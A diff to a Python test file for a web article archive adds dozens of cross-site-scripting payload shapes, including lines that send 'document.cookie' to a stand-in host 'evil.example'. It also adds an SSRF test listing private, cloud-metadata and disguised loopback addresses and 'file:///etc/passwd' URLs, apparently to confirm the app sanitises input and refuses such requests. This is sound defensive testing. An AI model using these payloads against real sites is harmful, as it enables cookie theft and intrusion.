@@ -2,17 +2,28 @@
 
 from __future__ import annotations
 
+import socket
+from pathlib import Path
 from typing import Any
 
+import httpcore
 import httpx
 import lxml.html
 import pytest
+from starlette.testclient import TestClient
 
-from onrecord.archive import Archive
+from onrecord.archive import Archive, open_archive
+from onrecord.web import create_app
 
 pytestmark = pytest.mark.xdist_group("browser")
 
-CALLS = ("alert(1)", "window.pwned=1", "fetch('https://evil.example/')")
+CALLS = (
+    "alert(1)",
+    "window.pwned=1",
+    "fetch('https://evil.example/')",
+    "top.location='https://evil.example/'+document.cookie",
+    "new Image().src='https://evil.example/'",
+)
 SHAPES = (
     "<script>{}</script>",
     "</title><script>{}</script>",
@@ -48,8 +59,38 @@ SHAPES = (
     "<template><script>{}</script></template>",
     "\\u003cscript\\u003e{}",
     "%3Cscript%3E{}%3C/script%3E",
+    "<a href=vbscript:{}>x</a>",
+    "</textarea><script>{}</script>",
+    "</option></select><img src=x onerror={}>",
+    "`${{{}}}`",
+    "<img srcset='https://evil.example/ 2x' onload={}>",
+    "<button formaction='javascript:{}'>x</button>",
+    "<details open ontoggle={}>",
+    "<body onpageshow={}>",
+    "<input autofocus onfocus={}>",
+    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
+    "<svg><animate attributeName=href values='javascript:{}'/></svg>",
+    "<svg><use href='data:image/svg+xml,<script>{}</script>'/></svg>",
+    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
+    "<div style=\"background:url('https://evil.example/{}')\">",
+    'x"; }} * {{ background: url(https://evil.example/{}) }} /*',
+    "<link rel=prefetch href=https://evil.example/{}>",
+    "<link rel=dns-prefetch href=//evil.example/><script>{}</script>",
+    "<embed src='javascript:{}'>",
+    "<marquee onstart={}>",
+    "<dialog open><form method=dialog><button onclick={}>x</button></form></dialog>",
+    '<script type=speculationrules>{{"prefetch":[{{"urls":["https://evil.example/"]}}]}}</script>{}',
+    '<script type=importmap>{{"imports":{{"./copy.js":"https://evil.example/"}}}}</script>{}',
+    "<portal src=https://evil.example/{}>",
+    "\u200f\u061c<script>{}</script>\u200e",
+    "\ufeff<script>{}</script>",
+    "https://user:{}@evil.example/",
+    'https://evil.example/"><script>{}</script>',
+    "https://evil.example/' onclick='{}",
+    "https://evil.example/?a=1&lt;script&gt;{}",
 )
 INPUTS = [shape.format(call) for shape in SHAPES for call in CALLS]
+assert len(INPUTS) >= 300
 
 
 def poisoned(making: Any, text: str) -> Any:
@@ -150,14 +191,38 @@ def test_names_cannot_turn_what_stands_beside_them(reader: Any, making: Any) -> 
     assert not set(body) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 
 
-def test_private_addresses_are_never_asked(reader: Any) -> None:
-    """Adding goes through `pages.fetch`; here its refusal comes back as the API's error."""
-    for url in (
-        "http://127.0.0.1/",
-        "http://[::1]/",
-        "http://10.0.0.1/x",
-        "http://169.254.169.254/latest",
-        "file:///etc/passwd",
-    ):
-        answer = httpx.post(f"{reader.url}/articles", json={"url": url}, timeout=60)
-        assert answer.status_code == 422 and answer.json()["error"]["code"] == "not-public"
+PRIVATE = """\
+127.0.0.1 127.255.0.1 0.0.0.0 0.1.2.3 10.0.0.1 10.255.255.254 172.16.0.1 172.31.255.1 192.168.0.1 192.168.255.254
+169.254.169.254 169.254.0.1 100.64.0.1 100.127.255.254 168.63.129.16 192.0.0.1 192.0.2.7 192.88.99.1 198.18.0.1
+198.19.255.1 198.51.100.7 203.0.113.9 224.0.0.1 239.255.255.250 240.0.0.1 255.255.255.255
+::1 :: ::ffff:127.0.0.1 ::ffff:10.0.0.1 ::ffff:169.254.169.254 ::127.0.0.1 64:ff9b::7f00:1 64:ff9b::a9fe:a9fe
+2002:7f00:1:: 2002:a9fe:a9fe::1 2001::1 2001:db8::1 3fff::1 100::1 fc00::1 fd00:ec2::254 fe80::1 fec0::1 ff02::1
+""".split()  # noqa: SIM905
+SPELLED = ["0x7f.1", "2130706433", "017700000001", "127.1", "[::1]", "[::ffff:7f00:1]", "localhost", "127.0.0.1."]
+
+
+def test_private_addresses_are_never_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each through "add by URL" and the real fetch, over a resolver that answers every name with it."""
+    assert len(PRIVATE) + len(SPELLED) > 50
+    answers: dict[str, str] = {f"n{n}.courier.example": address for n, address in enumerate(PRIVATE)}
+    opened: list[str] = []
+
+    def resolve(host: str, port: Any, *args: Any, **more: Any) -> list[Any]:
+        answer = answers.get(host, "127.0.0.1")
+        return [(socket.AF_INET6 if ":" in answer else socket.AF_INET, socket.SOCK_STREAM, 6, "", (answer, port))]
+
+    def connect_tcp(self: Any, host: str, *args: Any, **more: Any) -> httpcore.NetworkStream:
+        opened.append(host)
+        raise httpcore.ConnectError("the test opens no socket")
+
+    monkeypatch.setattr(httpcore.SyncBackend, "connect_tcp", connect_tcp)
+    monkeypatch.setattr(socket, "getaddrinfo", resolve)
+    archive = open_archive(tmp_path / "a.sqlite")
+    with TestClient(create_app(archive), base_url="http://127.0.0.1:8000") as client:
+        for n, host in enumerate([*answers, *SPELLED]):
+            answer = client.post("/articles", json={"url": f"http{'s' if n % 2 else ''}://{host}/story"})
+            assert (answer.status_code, answer.json()["error"]["code"]) == (422, "not-public"), host
+        for url in ("file:///etc/passwd", "ftp://courier.example/", "gopher://127.0.0.1/", "data:text/html,x"):
+            assert client.post("/articles", json={"url": url}).status_code == 422
+    assert opened == [] and archive.list().total == 0
+    archive.close()
